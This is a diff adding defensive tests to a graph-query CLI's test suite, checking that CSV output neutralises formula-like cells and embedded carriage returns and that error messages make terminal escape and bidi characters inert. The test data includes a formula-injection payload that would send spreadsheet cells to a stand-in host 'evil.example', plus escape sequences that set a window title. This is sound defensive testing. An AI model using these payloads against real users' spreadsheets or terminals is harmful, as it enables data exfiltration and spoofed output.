@@ -3,6 +3,8 @@ and refuse bad input with one line and a non-zero exit, leaving the store as it 
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
 import signal
@@ -17,6 +19,10 @@ from click.testing import CliRunner
 from graphkit import cli, schema
 from graphkit.cli import main
 from graphkit.errors import Stopped
+from graphkit.graph import build_graph
+from graphkit.records import Fragment
+from graphkit.store import open_store
+from tests import builders as build
 from tests.processes import all_exited
 
 EXAMPLE = Path(__file__).parent / "data" / "palmyra-lavrov-thread.txt"
@@ -183,6 +189,18 @@ def test_query_csv_lines_end_in_lf_and_table_columns_align_wide_names(loaded):
     assert len(set(columns)) == 1, table
 
 
+def test_query_csv_rows_are_the_rows_whatever_line_breaks_values_hold(loaded):
+    """A carriage return in a comment's text, alone or before a line feed, is a line break to a spreadsheet and to
+    csv readers: unquoted, it would end the row there and start a forged one with the rest of the text."""
+    store, _ = loaded
+    texts = ["over\rwrite", "a\r=HYPERLINK(1),b", "c\r\nd", "e\nf", "plain"]
+    params = [arg for i, text in enumerate(texts) for arg in ("-p", f"t{i}={text}")]
+    cypher = f"UNWIND [{', '.join(f'$t{i}' for i in range(len(texts)))}] AS text RETURN text, 7 AS n"
+    out = run("query", cypher, *params, "--format", "csv", "--store", store).stdout_bytes.decode()
+    assert list(csv.reader(io.StringIO(out, newline=""))) == [["text", "n"], *([t, "7"] for t in texts)]
+    assert out.endswith("plain,7\n") and "\r\n" not in out.replace('"c\r\nd"', "")
+
+
 def test_query_table_marks_a_cell_it_cuts(loaded):
     """A table gives a column 60 columns at most: a longer value (a comment's text) is cut there, its last column
     "…", so that no one takes it for the whole; JSON keeps every value whole."""
@@ -223,6 +241,37 @@ def test_query_table_shows_control_and_bidi_characters_of_user_text_inert(loaded
     rows = json.loads(run("query", cypher, *params, "--format", "json", "--store", store).stdout)
     assert [row["na\tme"] for row in rows] == names
     assert run("query", cypher, *params, "--format", "csv", "--store", store).stdout_bytes.decode().count("\x1b") == 2
+
+
+def test_query_csv_cells_a_spreadsheet_would_take_for_formulas_are_text(loaded):
+    """A comment's text may start like a formula (=HYPERLINK(…) sends the sheet's cells away when clicked): in CSV,
+    which analysts open in a spreadsheet, a text cell starting with = + - @, a tab or a carriage return gets a
+    leading apostrophe, which spreadsheets take as "this is text"; numbers and JSON are as stored."""
+    store, _ = loaded
+    texts = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "ok =1", ""]
+    params = [arg for i, text in enumerate(texts) for arg in ("-p", f"t{i}={text}")]
+    cypher = f"UNWIND [{', '.join(f'$t{i}' for i in range(len(texts)))}] AS text RETURN text, -3 AS n"
+    out = run("query", cypher, *params, "--format", "csv", "--store", store).stdout_bytes.decode()
+    rows = list(csv.reader(io.StringIO(out, newline="")))
+    shown = [("'" + t if t[:1] in ("=", "+", "-", "@", "\t", "\r") else t) for t in texts]
+    assert rows == [["text", "n"], *([t, "-3"] for t in shown)]
+    rows = json.loads(run("query", cypher, *params, "--format", "json", "--store", store).stdout)
+    assert [row["text"] for row in rows] == texts
+
+
+def test_an_error_quoting_a_users_text_shows_its_control_and_bidi_characters_inert(tmp_path):
+    """An engine error may quote a stored value (a comment's text the query could not read as a number): what a user
+    wrote must not drive the terminal there either (an escape sequence sets the window title, U+202E turns the line
+    around), as in the table."""
+    store = str(tmp_path / "store.lbug")
+    art = build.article("one")
+    with open_store("ladybug", path=store) as db:
+        db.load(build_graph([art, build.post(art.id, 1, "x\x1b[31mred\x1b]0;title\x07\u202eevil")], Fragment()))
+    args = ["query", "MATCH (c:Comment) RETURN CAST(c.text AS INT64) AS n", "--store", store]
+    result = CliRunner().invoke(main, args, color=True)  # escapes kept, as a terminal gets them
+    assert result.exit_code == 1
+    (line,) = result.stderr.splitlines()
+    assert "x\ufffd[31mred\ufffd]0;title\ufffdevil" in line
 
 
 def test_query_is_read_only_unless_write(loaded):
